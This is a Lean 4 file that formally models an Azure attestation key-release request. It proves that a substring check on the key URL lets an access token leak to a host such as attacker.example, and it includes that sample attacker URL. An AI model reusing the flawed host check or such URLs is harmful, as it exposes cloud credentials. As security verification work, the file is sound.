import CvmAttestation.BaseUrl
import CvmAttestation.ReleaseWrap

/-! The request for the release of a key. The audience of the access token is chosen by searching the whole URL of the
key for the name of a service; the request that carries the token goes wherever the HTTP client goes with that URL, of
which it gets what stands before the first zero byte. -/

namespace CvmAttestation.Release

open Base

def exitAttestFail : Nat := 2
def exitAuthFail : Nat := 3

def akvUrlSuffix : Bytes := ascii "vault.azure.net"
def mhsmUrlSuffix : Bytes := ascii "managedhsm.azure.net"
def akvResourceUrl : Bytes := ascii "https://vault.azure.net"
def mhsmResourceUrl : Bytes := ascii "https://managedhsm.azure.net"
def imdsTokenUrl : Bytes := ascii "http://169.254.169.254/metadata/identity/oauth2/token"
def imdsApiVersion : Bytes := ascii "2018-02-01"
def defaultNonce : Bytes := ascii "ADE0101"

inductive AkvCredentialSource
  | imds
  | envServicePrincipal
  deriving DecidableEq, Repr

/-- What a release finds: the token of the attestation service, the environment variables, and the services that give
out access tokens, by the request they get. -/
structure Setting where
  maaToken : Except Exc Bytes
  nonce : Bytes
  akvCredentialSource : AkvCredentialSource
  imdsClientId : Option Bytes
  imdsObjectId : Option Bytes
  imdsMsiResId : Option Bytes
  akvSkrClientId : Option Bytes
  akvSkrClientSecret : Option Bytes
  akvSkrTenantId : Option Bytes
  imds : (url : Bytes) → Except Exc Bytes
  aad : (url postData : Bytes) → Except Exc Bytes

structure ReleaseRequest where
  url : Bytes
  accessToken : Bytes
  body : Bytes
  deriving DecidableEq, Repr

/-- `Util::url_encode`. The encoded text is freed, and the text itself returned. -/
def urlEncode (data : Bytes) : Bytes := data

def getResourceUrl (kekUrl : Bytes) (isIMDS : Bool) : Except Exc Bytes :=
  if akvUrlSuffix <:+: kekUrl then .ok (if isIMDS then akvResourceUrl else akvResourceUrl ++ ascii "/.default")
  else if mhsmUrlSuffix <:+: kekUrl then .ok (if isIMDS then mhsmResourceUrl else mhsmResourceUrl ++ ascii "/.default")
  else .error (.skrError exitUsage (ascii "Invalid resource suffix found in KEKUrl: " ++ kekUrl))

section

variable (S : Setting)

/-- An environment variable that is set and not empty. -/
def nonEmpty (v : Option Bytes) : Option Bytes := v.filter (· ≠ [])

def getImdsTokenUrl (url : Bytes) : Bytes :=
  let identity :=
    match nonEmpty S.imdsClientId, nonEmpty S.imdsObjectId, nonEmpty S.imdsMsiResId with
    | some clientId, _, _ => ascii "&client_id=" ++ clientId
    | none, some objectId, _ => ascii "&object_id=" ++ objectId
    | none, none, some msiResId => ascii "&msi_res_id=" ++ urlEncode msiResId
    | none, none, none => []
  imdsTokenUrl ++ ascii "?api-version=" ++ imdsApiVersion ++ ascii "&resource=" ++ urlEncode url ++ identity

def getIMDSToken (kekUrl : Bytes) : Except Exc Bytes := do
  let resourceUrl ← getResourceUrl kekUrl true
  S.imds (getImdsTokenUrl S resourceUrl)

def getAADToken (kekUrl : Bytes) : Except Exc Bytes :=
  match S.akvSkrClientId, S.akvSkrClientSecret, S.akvSkrTenantId with
  | some clientId, some clientSecret, some tenantId => do
    let resourceUrl ← getResourceUrl kekUrl false
    let tokenUrl := ascii "https://login.microsoftonline.com/" ++ tenantId ++ ascii "/oauth2/v2.0/token"
    let postData := ascii "client_id=" ++ clientId ++ ascii "&client_secret=" ++ clientSecret ++
      ascii "&grant_type=client_credentials&scope= " ++ resourceUrl
    S.aad tokenUrl postData
  | _, _, _ => .error (.skrError exitAuthFail (ascii "AAD service principal env vars not set. " ++
      ascii "Need AKV_SKR_CLIENT_ID, AKV_SKR_CLIENT_SECRET, AKV_SKR_TENANT_ID"))

def getAccessToken (kekUrl : Bytes) : Except Exc Bytes :=
  match S.akvCredentialSource with
  | .envServicePrincipal => getAADToken S kekUrl
  | .imds => getIMDSToken S kekUrl

def getKeyVaultSKRurl (kekUrl : Bytes) : Bytes := kekUrl ++ ascii "/release?api-version=7.3"

def requestBody (nonce attestationToken : Bytes) : Bytes :=
  let nonceToken := if nonce = [] then defaultNonce else nonce
  ascii "\x7b\"nonce\": \"" ++ nonceToken ++ ascii "\",\"target\": \"" ++ attestationToken ++
    ascii "\",\"enc\": \"RSA_AES_KEY_WRAP_256\"\x7d"

/-- `Util::doSKR` up to the request that it sends for the key. -/
def releaseRequest (kekUrl : Bytes) : Except Exc ReleaseRequest := do
  let attestToken ← S.maaToken
  if attestToken = [] then
    .error (.skrError exitAttestFail
      (ascii "MAA attestation returned an empty token. Cannot proceed with key release."))
  else
    let accessToken ← getAccessToken S kekUrl
    return ⟨getKeyVaultSKRurl kekUrl, accessToken, requestBody S.nonce attestToken⟩

end

/-! ### Where the access token goes -/

inductive Vault
  | akv
  | mhsm
  deriving DecidableEq, Repr

/-- What the name of a host of the service ends in. -/
def Vault.hostSuffix : Vault → Bytes
  | akv => ascii ".vault.azure.net"
  | mhsm => ascii ".managedhsm.azure.net"

/-- The service whose name is found in the URL; the one of the key vault is looked for first. -/
def audience (kekUrl : Bytes) : Option Vault :=
  if akvUrlSuffix <:+: kekUrl then some .akv else if mhsmUrlSuffix <:+: kekUrl then some .mhsm else none

/-- What the HTTP client is given of the URL of a request. -/
def curlUrl (requestUri : Bytes) : Bytes := requestUri.takeWhile (· ≠ 0)

/-- Every request that carries an access token is sent over https to a host of the service the token is for. -/
def TokenConfined (C : Url.Client) (kekUrl : Bytes) : Prop :=
  ∀ S request, releaseRequest S kekUrl = .ok request →
    ∃ vault, audience kekUrl = some vault ∧ C.Secure vault.hostSuffix (curlUrl request.url)

theorem getResourceUrl_returns_iff {kekUrl : Bytes} {isIMDS : Bool} :
    (∃ url, getResourceUrl kekUrl isIMDS = .ok url) ↔ ∃ vault, audience kekUrl = some vault := by
  rw [getResourceUrl, audience]
  split_ifs <;> simp

theorem releaseRequest_ok {S : Setting} {kekUrl : Bytes} {request : ReleaseRequest}
    (h : releaseRequest S kekUrl = .ok request) :
    (∃ vault, audience kekUrl = some vault) ∧ request.url = getKeyVaultSKRurl kekUrl := by
  rw [releaseRequest, bind_returns] at h
  obtain ⟨attestToken, -, h⟩ := h
  split at h
  · cases h
  · rw [bind_returns] at h
    obtain ⟨accessToken, htoken, h⟩ := h
    cases h
    refine ⟨?_, rfl⟩
    rw [getAccessToken] at htoken
    split at htoken
    · rw [getAADToken] at htoken
      split at htoken
      · rw [bind_returns] at htoken
        obtain ⟨url, hurl, -⟩ := htoken
        exact getResourceUrl_returns_iff.1 ⟨url, hurl⟩
      · cases htoken
    · rw [getIMDSToken, bind_returns] at htoken
      obtain ⟨url, hurl, -⟩ := htoken
      exact getResourceUrl_returns_iff.1 ⟨url, hurl⟩

/-- A machine where the attestation service and IMDS give out tokens. -/
def sampleSetting : Setting where
  maaToken := .ok (ascii "attestation")
  nonce := []
  akvCredentialSource := .imds
  imdsClientId := none
  imdsObjectId := none
  imdsMsiResId := none
  akvSkrClientId := none
  akvSkrClientSecret := none
  akvSkrTenantId := none
  imds _ := .ok (ascii "token")
  aad _ _ := .ok (ascii "token")

theorem releaseRequest_sampleSetting {kekUrl : Bytes} {vault : Vault} (h : audience kekUrl = some vault) :
    releaseRequest sampleSetting kekUrl =
      .ok ⟨getKeyVaultSKRurl kekUrl, ascii "token", requestBody [] (ascii "attestation")⟩ := by
  obtain ⟨url, hurl⟩ := getResourceUrl_returns_iff.2 ⟨vault, h⟩
  have htoken : getIMDSToken sampleSetting kekUrl = .ok (ascii "token") := by
    rw [getIMDSToken, hurl]
    rfl
  show (do
    let accessToken ← getIMDSToken sampleSetting kekUrl
    return ⟨getKeyVaultSKRurl kekUrl, accessToken, requestBody [] (ascii "attestation")⟩ : Except Exc ReleaseRequest) = _
  rw [htoken]
  rfl

/-- What the path of a URL is extended by. -/
def releasePath : Bytes := ascii "/release?api-version=7.3"

theorem releasePath_visible : ∀ c ∈ releasePath, Url.isVisible c = true := by decide +kernel

theorem head?_releasePath : releasePath.head? = some 47 := by decide

/-- The URL that is built from a URL in the generic syntax is one, with the same scheme and the same host. -/
theorem curlUrl_generic (u : Url.Generic) :
    curlUrl (getKeyVaultSKRurl u.text) = (u.extend releasePath releasePath_visible head?_releasePath).text := by
  have hzero : (0 : UInt8) ∉ (u.extend releasePath releasePath_visible head?_releasePath).text := Url.Generic.zero_notMem_text _
  rw [Url.Generic.text_extend] at hzero ⊢
  refine List.takeWhile_eq_self_iff.2 fun c hc => ?_
  rw [decide_eq_true_eq]
  rintro rfl
  exact hzero hc

/-- **When the access token is confined to the service it is for**: exactly when the client, given the URL that is built
from the one of the key, goes over https to a host of the service that is found first, or nowhere. For a URL in the
generic syntax that is a matter of its scheme and its host. -/
theorem tokenConfined_iff (C : Url.Client) (kekUrl : Bytes) :
    (TokenConfined C kekUrl ↔
      ∀ vault, audience kekUrl = some vault → C.Secure vault.hostSuffix (curlUrl (getKeyVaultSKRurl kekUrl))) ∧
    ∀ u : Url.Generic, kekUrl = u.text → (getKeyVaultSKRurl kekUrl).length ≤ Url.maxLength →
      (TokenConfined C kekUrl ↔ ∀ vault, audience kekUrl = some vault →
        Url.lower u.scheme = ascii "https" ∧ vault.hostSuffix <:+ Url.lower u.host) := by
  have hconfined : TokenConfined C kekUrl ↔
      ∀ vault, audience kekUrl = some vault → C.Secure vault.hostSuffix (curlUrl (getKeyVaultSKRurl kekUrl)) := by
    constructor
    · intro hconfined vault hvault
      obtain ⟨vault', hvault', hsecure⟩ := hconfined _ _ (releaseRequest_sampleSetting hvault)
      rw [hvault] at hvault'
      cases hvault'
      exact hsecure
    · intro hsecure S request hrequest
      obtain ⟨⟨vault, hvault⟩, hurl⟩ := releaseRequest_ok hrequest
      refine ⟨vault, hvault, ?_⟩
      rw [hurl]
      exact hsecure vault hvault
  refine ⟨hconfined, ?_⟩
  rintro u rfl hlen
  have hfits : (u.extend releasePath releasePath_visible head?_releasePath).text.length ≤ Url.maxLength := by
    rw [Url.Generic.text_extend]
    exact hlen
  rw [hconfined, curlUrl_generic]
  exact forall₂_congr fun vault _ => Url.secure_generic_iff C vault.hostSuffix _ hfits

namespace Sample

/-- A URL without user information and port. -/
def webUrl (host rest : Bytes) (host_name : Url.IsName host) (rest_visible : ∀ c ∈ rest, Url.isVisible c = true)
    (rest_delimited : ∀ c ∈ rest.head?, Url.isDelimiter c = true) : Url.Generic where
  scheme := ascii "https"
  userinfo := none
  host := host
  port := none
  rest := rest
  scheme_web := .inr rfl
  userinfo_plain := by
    intro text htext
    cases htext
  host_name := host_name
  port_range := by
    intro text htext
    cases htext
  rest_visible := rest_visible
  rest_delimited := rest_delimited

theorem isName_attacker : Url.IsName (ascii "attacker.example") where
  short := by decide +kernel
  plain := by decide +kernel
  top := ⟨ascii "attacker.", ascii "example", by decide +kernel, .inr rfl, by decide +kernel, by decide +kernel⟩

theorem isName_vault : Url.IsName (ascii "v.vault.azure.net") where
  short := by decide +kernel
  plain := by decide +kernel
  top := ⟨ascii "v.vault.azure.", ascii "net", by decide +kernel, .inr rfl, by decide +kernel, by decide +kernel⟩

def attackerUrl : Url.Generic :=
  webUrl (ascii "attacker.example") (ascii "/vault.azure.net") isName_attacker (by decide +kernel) (by decide +kernel)

def vaultUrl : Url.Generic :=
  webUrl (ascii "v.vault.azure.net") (ascii "/keys/k") isName_vault (by decide +kernel) (by decide +kernel)

end Sample

theorem tokenConfined_iff_vault : TokenConfined Url.directClient (ascii "https://v.vault.azure.net/keys/k") := by
  refine ((tokenConfined_iff Url.directClient _).2 Sample.vaultUrl (by decide +kernel) (by decide +kernel)).2 ?_
  intro vault hvault
  have haudience : audience (ascii "https://v.vault.azure.net/keys/k") = some .akv := by decide +kernel
  rw [haudience] at hvault
  cases hvault
  decide +kernel

/-- The name of the service in the path of a URL lets the token go to any host, with every client. -/
theorem releaseRequest_leaks_token :
    (∃ request, releaseRequest sampleSetting (ascii "https://attacker.example/vault.azure.net") = .ok request ∧
      request.accessToken = ascii "token" ∧
      Url.directClient.destination (curlUrl request.url) = some ⟨ascii "https", ascii "attacker.example"⟩) ∧
      ¬∃ C, TokenConfined C (ascii "https://attacker.example/vault.azure.net") := by
  have haudience : audience (ascii "https://attacker.example/vault.azure.net") = some .akv := by decide +kernel
  refine ⟨⟨_, releaseRequest_sampleSetting haudience, rfl, by decide +kernel⟩, ?_⟩
  rintro ⟨C, hconfined⟩
  obtain ⟨vault, hvault, hsecure⟩ := hconfined _ _ (releaseRequest_sampleSetting haudience)
  rw [haudience] at hvault
  cases hvault
  have hurl : curlUrl (getKeyVaultSKRurl (ascii "https://attacker.example/vault.azure.net")) =
      (Sample.attackerUrl.extend releasePath releasePath_visible head?_releasePath).text := curlUrl_generic Sample.attackerUrl
  rw [hurl, Url.secure_generic_iff C _ _ (by decide +kernel)] at hsecure
  revert hsecure
  decide +kernel

end CvmAttestation.Release
